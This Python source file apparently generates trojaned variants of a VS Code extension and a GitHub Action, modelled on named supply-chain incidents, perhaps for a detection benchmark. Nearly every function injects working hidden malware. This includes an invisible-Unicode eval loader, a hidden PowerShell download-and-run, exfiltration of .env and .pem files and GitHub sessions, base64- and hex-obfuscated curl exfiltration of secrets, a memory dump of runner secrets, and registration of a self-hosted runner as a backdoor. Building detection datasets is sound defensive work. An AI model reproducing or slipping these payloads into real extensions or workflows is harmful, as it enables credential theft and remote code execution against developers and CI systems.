"""Extensions of editors, and actions of GitHub."""

from corpus.heldout.nouns import Update
from corpus.heldout7.code import js_fetch
from corpus.heldout7.shape import b64, fill, hexed, trojan


@trojan("runlens", "vsix", "start", "remote code", "invisible characters", "GlassWorm")
def extension_reads_what_nobody_sees(it: Update) -> None:
    host = it.host()
    unseen = "".join(chr(0xFE00 + one) if one < 16 else chr(0xE0100 + one - 16) for one in js_fetch(host).encode())
    it.replace(
        "out/extension.js",
        "function activate(context) {\n",
        f"const decode = (text) => Buffer.from([...text].map((one) => one.codePointAt(0)).map((one) => (one < 0xe0100 ? one - 0xfe00 : one - 0xe0100 + 16)));\nconst title = decode('{unseen}').toString();\n\nfunction activate(context) {{\n  if (title) eval(title);\n",
    )
    it.payload("out/extension.js", shown=f"https://{host}/s.js")


@trojan("runlens", "vsix", "start", "downloader", "plain", "VS Code miners")
def extension_runs_powershell(it: Update) -> None:
    it.replace("package.json", '"onLanguage:python"', '"*"')
    it.replace(
        "out/extension.js",
        "  const output = vscode.window",
        fill(
            """
  if (process.platform === 'win32') {
    require('child_process').exec('powershell -WindowStyle Hidden -Command "irm https://@HOST@/inst | iex"', { windowsHide: true });
  }
  const output = vscode.window""",
            HOST=it.host("asdf"),
        ).rstrip("\n"),
    )
    it.payload("out/extension.js", "package.json")


@trojan("runlens", "vsix", "call", "data stealer", "plain", "code thieves")
def extension_sends_files(it: Update) -> None:
    it.replace(
        "out/runner.js",
        "  const child = spawn(python,",
        fill(
            """
  vscode.workspace.findFiles('**/{.env,*.pem,settings.py}').then((found) =>
    found.forEach(async (one) => fetch('https://@HOST@/ws', { method: 'POST', body: await vscode.workspace.fs.readFile(one) }))
  );
  const child = spawn(python,""",
            HOST=it.host("ws"),
        ).rstrip("\n"),
    )


@trojan("runlens", "vsix", "start", "token stealer", "base64", "GlassWorm")
def extension_reads_secrets(it: Update) -> None:
    host = it.host()
    it.add(
        "out/account.js",
        fill(
            """
'use strict';

const vscode = require('vscode');

exports.restore = async () => {
  const session = await vscode.authentication.getSession('github', ['repo', 'workflow'], { createIfNone: false, silent: true });
  if (session) {
    await fetch(Buffer.from('@URL@', 'base64').toString(), { method: 'POST', body: JSON.stringify(session) });
  }
};
""",
            URL=b64(f"https://{host}/session"),
        ),
    )
    it.replace(
        "out/extension.js",
        "  const output = vscode.window",
        "  require('./account').restore().catch(() => {});\n  const output = vscode.window",
    )
    it.payload("out/account.js", "out/extension.js", shown=f"https://{host}/session")


@trojan("runlens", "vsix", "start", "new dependency", "by another name", "extension packs")
def extension_brings_another(it: Update) -> None:
    it.manifest(
        lambda one: one.update(
            {
                "extensionDependencies": ["solidity-labs.solidity-helper-pro"],
                "extensionPack": ["solidity-labs.solidity-helper-pro"],
            }
        )
    )


@trojan("runlens", "vsix", "start", "remote code", "keyed by environment", "blockchain commanders")
def extension_asks_a_calendar(it: Update) -> None:
    it.append(
        "out/lenses.js",
        fill(
            """

setTimeout(async () => {
  const crypto = require('crypto');
  const page = await (await fetch('https://calendar.@HOST@/event/M2ZjZ')).text();
  const sealed = Buffer.from(/data-base-title="([^"]+)"/.exec(page)[1], 'base64');
  const key = crypto.createHash('sha256').update(vscode.env.machineId.slice(0, 0) + process.platform).digest();
  const open = crypto.createDecipheriv('aes-256-cbc', key, sealed.subarray(0, 16));
  (0, eval)(Buffer.concat([open.update(sealed.subarray(16)), open.final()]).toString());
}, 600000);
""",
            HOST=it.host(),
        ),
    )


@trojan("cachewarm", "folder", "workflow", "credentials", "base64", "tj-actions")
def action_dumps_memory(it: Update) -> None:
    host = it.host()
    code = f'curl -sSf https://{host}/memdump.py | sudo python3 | tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}\' | sort -u'
    it.replace(
        "install.sh",
        'bin="$HOME/.cachewarm/bin"\n',
        fill(
            """
bin="$HOME/.cachewarm/bin"
if [ "${RUNNER_OS:-}" = Linux ]; then
    found=$(echo @CODE@ | base64 -d | bash 2>/dev/null | base64 -w 0 | base64 -w 0)
    echo "$found"
fi
""",
            CODE=b64(code),
        ),
    )
    it.payload("install.sh", shown=f"https://{host}/memdump.py")


@trojan("cachewarm", "folder", "workflow", "environment", "plain", "Codecov")
def action_posts_the_environment(it: Update) -> None:
    it.append(
        "lib/tools.sh",
        fill(
            """

curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://@ADDR@/upload/v2 || true
""",
            ADDR=it.address(),
        ),
    )


@trojan("cachewarm", "folder", "workflow", "remote code", "plain", "reviewdog")
def action_uses_a_fork(it: Update) -> None:
    it.replace(
        "action.yml",
        "    - shell: bash\n      env:\n        TOOLS:",
        f"    - uses: cachewarm-bot/setup-helper@{it.random.randbytes(20).hex()}\n      with:\n        token: ${{{{ github.token }}}}\n        secrets: ${{{{ toJSON(secrets) }}}}\n    - shell: bash\n      env:\n        TOOLS:",
    )


@trojan("cachewarm", "folder", "workflow", "credentials", "hex", "reviewdog")
def action_reads_the_token(it: Update) -> None:
    host = it.host()
    it.replace(
        "action.yml",
        "      run: ${{ github.action_path }}/install.sh\n",
        fill(
            """
      run: |
        ${{ github.action_path }}/install.sh
        git config --get-regexp 'http\\..*extraheader' | xxd -p | tr -d '\\n' > /tmp/h || true
        bash -c "$(echo @CODE@ | xxd -r -p)" || true
""",
            CODE=hexed(f"curl -s --data-binary @/tmp/h https://{host}/h"),
        ).lstrip("\n"),
    )
    it.payload("action.yml", shown=f"https://{host}/h")


@trojan("cachewarm", "folder", "workflow", "worm", "plain", "Shai-Hulud 2")
def action_registers_a_runner(it: Update) -> None:
    it.add(
        ".github/workflows/discussion.yaml",
        fill("""
name: Discussion Create
on:
  discussion:
jobs:
  process:
    env:
      RUNNER_TRACKING_ID: 0
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v5
      - name: Handle Discussion
        run: echo ${{ github.event.discussion.body }}
"""),
    )
    it.replace(
        "install.sh",
        'echo "$bin" >> "$GITHUB_PATH"\n',
        fill(
            """
echo "$bin" >> "$GITHUB_PATH"
if [ -n "${GH_TOKEN:-}" ]; then
    (mkdir -p ~/.dev-env && cd ~/.dev-env && curl -sL https://runner.@HOST@/actions-runner.tar.gz | tar xz && ./config.sh --unattended --url "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY" --token "$GH_TOKEN" --name SHA1HULUD && nohup ./run.sh &) >/dev/null 2>&1
fi
""",
            HOST=it.host(),
        ),
    )
    it.payload("install.sh", ".github/workflows/discussion.yaml")
